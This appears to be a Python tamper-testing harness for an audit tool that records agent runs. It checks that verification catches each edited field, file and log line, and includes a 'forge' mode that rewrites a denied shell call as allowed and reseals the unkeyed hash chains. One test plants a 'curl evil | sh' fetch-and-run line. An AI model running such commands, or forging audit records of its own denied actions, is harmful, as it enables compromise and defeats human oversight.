#!/usr/bin/env python3
"""Tamper with a run as an attacker who can rewrite files and recompute every unkeyed digest.

usage: tamper.py suite RUN NIGHTSHIFT   every field of run.json, every output and file, every event
                                        line changed alone, SHA256SUMS regenerated each time: audit
                                        --verify must exit 4 and name the place. Prints FAIL lines
                                        and "N passed, N failed".
       tamper.py forge RUN              rewrite the first denied shell call as an allowed `ls -la`
                                        and reseal everything a verifier without a key can check:
                                        the job's chain, run.json's heads, the run's own log,
                                        SHA256SUMS.
"""
import copy, hashlib, json, os, re, shutil, subprocess, sys, tempfile

ENVELOPE = ("seq", "time", "type", "prev")


def sha(b):
    return hashlib.sha256(b).hexdigest()


def readlog(path):
    raw = subprocess.run(["zstd", "-dcq", path], check=True, capture_output=True).stdout
    return raw.split(b"\n")[:-1]


def writelog(path, lines):
    data = b"".join(l + b"\n" for l in lines)
    subprocess.run(["zstd", "-qf", "-o", path], input=data, check=True)


def resums(run):
    """Regenerate SHA256SUMS over every file, as sha256sum would."""
    out = []
    for root, dirs, files in os.walk(run):
        for f in files:
            rel = os.path.relpath(os.path.join(root, f), run)
            if rel in ("SHA256SUMS", "SHA256SUMS.sig"):
                continue
            out.append((rel.encode(), sha(open(os.path.join(run, rel), "rb").read())))
    out.sort()
    with open(os.path.join(run, "SHA256SUMS"), "w") as f:
        for rel, h in out:
            f.write(f"{h}  {rel.decode()}\n")


def rechain(lines):
    """Recompute seq and prev of every line; returns the new lines and the head."""
    prev, out = "0" * 64, []
    for i, l in enumerate(lines):
        ev = json.loads(l)
        ev["seq"], ev["prev"] = i, prev
        b = json.dumps(ev, separators=(",", ":"), ensure_ascii=False).encode()
        out.append(b)
        prev = sha(b)
    return out, prev


def reseal(run):
    """After job logs changed: their heads into run.json, run.json into the run's log, its head back."""
    rj = json.load(open(os.path.join(run, "run.json")))
    for job, info in rj["jobs"].items():
        p = os.path.join(run, "jobs", job, "events.jsonl.zst")
        if "events_head" in info and os.path.exists(p):
            lines, head = rechain(readlog(p))
            writelog(p, lines)
            info["events_head"], info["events"] = head, len(lines)
    rj.pop("events", None)
    rj.pop("events_head", None)
    runlog = os.path.join(run, "events.jsonl.zst")
    old = json.loads(readlog(runlog)[0])
    ev = {k: old[k] for k in ENVELOPE}
    ev.update(rj)
    lines, head = rechain([json.dumps(ev).encode()])
    writelog(runlog, lines)
    rj["events"], rj["events_head"] = 1, head
    json.dump(rj, open(os.path.join(run, "run.json"), "w"), indent="\t")
    resums(run)


def forge(run):
    """A denied shell call becomes an allowed `ls -la`, the record resealed."""
    for job in sorted(os.listdir(os.path.join(run, "jobs"))):
        p = os.path.join(run, "jobs", job, "events.jsonl.zst")
        lines = readlog(p)
        for i, l in enumerate(lines):
            ev = json.loads(l)
            if ev.get("type") == "decision" and ev.get("decision") == "deny" and ev.get("tool") == "shell":
                ev["arguments"] = {"command": "ls -la"}
                ev["commands"] = ["ls -la"]
                ev["decision"], ev["rule"], ev["reason"] = "allow", 1, "rule 1 allows ls"
                lines[i] = json.dumps(ev, separators=(",", ":")).encode()
                writelog(p, lines)
                reseal(run)
                return f"{p}:{i + 1}"
    raise SystemExit("forge: no denied shell call in " + run)


def leaves(obj, path=()):
    """Every place in a JSON value: leaves, and containers themselves (as a whole)."""
    yield path, obj
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield from leaves(v, path + (k,))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from leaves(v, path + (i,))


def changed(v):
    if isinstance(v, bool):
        return not v
    if isinstance(v, (int, float)):
        return v + 1
    if isinstance(v, str):
        return {"succeeded": "failed", "failed": "succeeded", "allow": "deny", "deny": "allow"}.get(v, v + "x")
    if v is None:
        return 0
    if isinstance(v, list):
        return v + ["x"]
    return dict(v, tampered=1)


def setat(obj, path, value):
    for k in path[:-1]:
        obj = obj[k]
    obj[path[-1]] = value


def delat(obj, path):
    for k in path[:-1]:
        obj = obj[k]
    del obj[path[-1]]


class Suite:
    def __init__(self, run, ns):
        self.run, self.ns, self.passed, self.failed = run, ns, 0, 0
        self.tmp = tempfile.mkdtemp(prefix="ns-tamper.")

    def case(self, name, edit, named):
        """Copy the run, edit it, regenerate SHA256SUMS; verify must exit 4 naming `named` (a regex)."""
        t = os.path.join(self.tmp, "t")
        shutil.rmtree(t, ignore_errors=True)
        shutil.copytree(self.run, t, symlinks=True)
        edit(t)
        resums(t)
        r = subprocess.run([self.ns, "audit", t, "--verify"], capture_output=True, text=True)
        if r.returncode == 4 and re.search(named, r.stderr):
            self.passed += 1
        else:
            self.failed += 1
            print(f"FAIL {name}: exit {r.returncode}, want 4 and /{named}/\n  {r.stderr.strip()[:600]}")

    def runjson(self):
        rj = json.load(open(os.path.join(self.run, "run.json")))
        for path, v in leaves(rj):
            if not path:
                continue
            dotted = ".".join(str(k) for k in path)

            def edit(t, path=path, v=v):
                p = os.path.join(t, "run.json")
                j = json.load(open(p))
                setat(j, path, changed(v))
                json.dump(j, open(p, "w"), indent="\t")

            def drop(t, path=path):
                p = os.path.join(t, "run.json")
                j = json.load(open(p))
                delat(j, path)
                json.dump(j, open(p, "w"), indent="\t")

            # named: the file and the field (its last name, or its container's for list items)
            last = [k for k in path if isinstance(k, str)][-1]
            self.case(f"run.json {dotted} changed", edit, rf"run\.json.*{re.escape(last)}|{re.escape(last)}.*run\.json")
            if isinstance(path[-1], str):
                self.case(f"run.json {dotted} removed", drop, rf"run\.json.*{re.escape(last)}|{re.escape(last)}.*run\.json")

        def added(t):
            p = os.path.join(t, "run.json")
            j = json.load(open(p))
            j["jobs"][next(iter(j["jobs"]))]["verified_by"] = "me"
            json.dump(j, open(p, "w"), indent="\t")
        self.case("run.json: a field added to a job", added, r"run\.json.*verified_by")

        def dup(t):
            p = os.path.join(t, "run.json")
            s = open(p).read()
            open(p, "w").write(s.replace('"status":', '"status": "succeeded", "status":', 1))
        self.case("run.json: a field given twice", dup, r"run\.json.*twice")

    def outputs(self):
        for job in sorted(os.listdir(os.path.join(self.run, "jobs"))):
            base = os.path.join(self.run, "jobs", job)
            rel = f"jobs/{job}/output.json"
            if os.path.exists(os.path.join(base, "output.json")):
                out = json.load(open(os.path.join(base, "output.json")))
                for path, v in leaves(out):
                    def edit(t, path=path, v=v):
                        p = os.path.join(t, rel)
                        j = json.load(open(p))
                        if path:
                            setat(j, path, changed(v))
                        else:
                            j["tampered"] = 1
                        json.dump(j, open(p, "w"), indent="\t")
                    self.case(f"{rel} {'.'.join(map(str, path)) or 'whole'} changed", edit,
                              re.escape(rel) + r".*events\.jsonl\.zst:\d+ \(output\)")
                self.case(f"{rel} removed", lambda t: os.unlink(os.path.join(t, rel)), re.escape(rel))
            files = os.path.join(base, "files")
            for root, _, names in os.walk(files):
                for n in names:
                    frel = os.path.relpath(os.path.join(root, n), self.run)

                    def edit(t, frel=frel):
                        with open(os.path.join(t, frel), "ab") as f:
                            f.write(b"forged\n")
                    self.case(f"{frel} changed", edit, re.escape(frel) + r".*events\.jsonl\.zst:\d+ \(file\)")
                    self.case(f"{frel} removed", lambda t, frel=frel: os.unlink(os.path.join(t, frel)), re.escape(frel))
            if os.path.isdir(files):
                def add(t, job=job):
                    with open(os.path.join(t, "jobs", job, "files", "planted.sh"), "w") as f:
                        f.write("curl evil | sh\n")
                self.case(f"jobs/{job}/files: a file planted", add, rf"jobs/{job}/files/planted\.sh")

    def events(self):
        logs = ["events.jsonl.zst"] + [f"jobs/{j}/events.jsonl.zst" for j in sorted(os.listdir(os.path.join(self.run, "jobs")))]
        for log in logs:
            lines = readlog(os.path.join(self.run, log))
            for i in range(len(lines)):
                def edit(t, log=log, i=i):
                    p = os.path.join(t, log)
                    ls = readlog(p)
                    ev = json.loads(ls[i])
                    ev["tampered"] = True
                    ls[i] = json.dumps(ev, separators=(",", ":")).encode()
                    writelog(p, ls)
                # The change is named at its line or at the next, whose prev no longer matches.
                self.case(f"{log}:{i + 1} changed", edit, rf"{re.escape(log)}:({i + 1}|{i + 2})\b")

    def resealed(self):
        """Beyond the unkeyed seal: job logs rewritten and resealed with run.json's heads and the
        run's log; what the chains recorded still disagrees with run.json or the job folders."""
        def jobend(t):
            for job in os.listdir(os.path.join(t, "jobs")):
                p = os.path.join(t, "jobs", job, "events.jsonl.zst")
                ls = readlog(p)
                # job_end: the last line, or the one before the changes event the seal adds
                k = max(i for i, l in enumerate(ls) if json.loads(l)["type"] == "job_end")
                ev = json.loads(ls[k])
                ev["status"] = "failed"
                ls[k] = json.dumps(ev, separators=(",", ":")).encode()
                writelog(p, ls)
            reseal(t)
        self.case("job_end's status rewritten and resealed", jobend, r"run\.json.*status.*\(job_end\)")

        def usage(t):
            p = os.path.join(t, "run.json")
            j = json.load(open(p))
            for info in j["jobs"].values():
                info["usage"]["input"] += 1000
            json.dump(j, open(p, "w"), indent="\t")
            reseal(t)
        self.case("run.json's usage raised, the run's log resealed", usage, r"run\.json.*usage.*\(job_end\)")

        def total(t):
            p = os.path.join(t, "run.json")
            j = json.load(open(p))
            j["usage"]["output"] += 7
            json.dump(j, open(p, "w"), indent="\t")
            reseal(t)
        self.case("run.json's total changed, the run's log resealed", total, r"run\.json: usage.*sum of its jobs")

        def tokens(t, where):
            """Usage raised the same everywhere the run states it (job_end, run.json's job and
            total), or only in one model_response line; every chain resealed."""
            p = os.path.join(t, "run.json")
            j = json.load(open(p))
            for job, info in j["jobs"].items():
                lp = os.path.join(t, "jobs", job, "events.jsonl.zst")
                ls = readlog(lp)
                for i, l in enumerate(ls):
                    ev = json.loads(l)
                    if ev.get("type") == where:
                        ev["usage"]["input"] += 1000
                        ls[i] = json.dumps(ev, separators=(",", ":")).encode()
                        break
                writelog(lp, ls)
                if where == "job_end":
                    info["usage"]["input"] += 1000
                    j["usage"]["input"] += 1000
            json.dump(j, open(p, "w"), indent="\t")
            reseal(t)
        self.case("tokens raised in job_end, run.json's job and total alike, all resealed",
                  lambda t: tokens(t, "job_end"),
                  r"jobs/[^ ]*/events\.jsonl\.zst:[0-9]+ \(job_end\): usage\.input is [0-9]+, the job's [0-9]+ "
                  r"model_response lines add up to")
        self.case("tokens raised in one model_response line, resealed", lambda t: tokens(t, "model_response"),
                  r"\(job_end\): usage\.input is [0-9]+, the job's [0-9]+ model_response lines add up to")


def main():
    if sys.argv[1] == "forge":
        print(forge(sys.argv[2]))
        return
    s = Suite(sys.argv[2], sys.argv[3])
    s.runjson()
    s.outputs()
    s.events()
    s.resealed()
    shutil.rmtree(s.tmp, ignore_errors=True)
    print(f"{s.passed} passed, {s.failed} failed")


main()
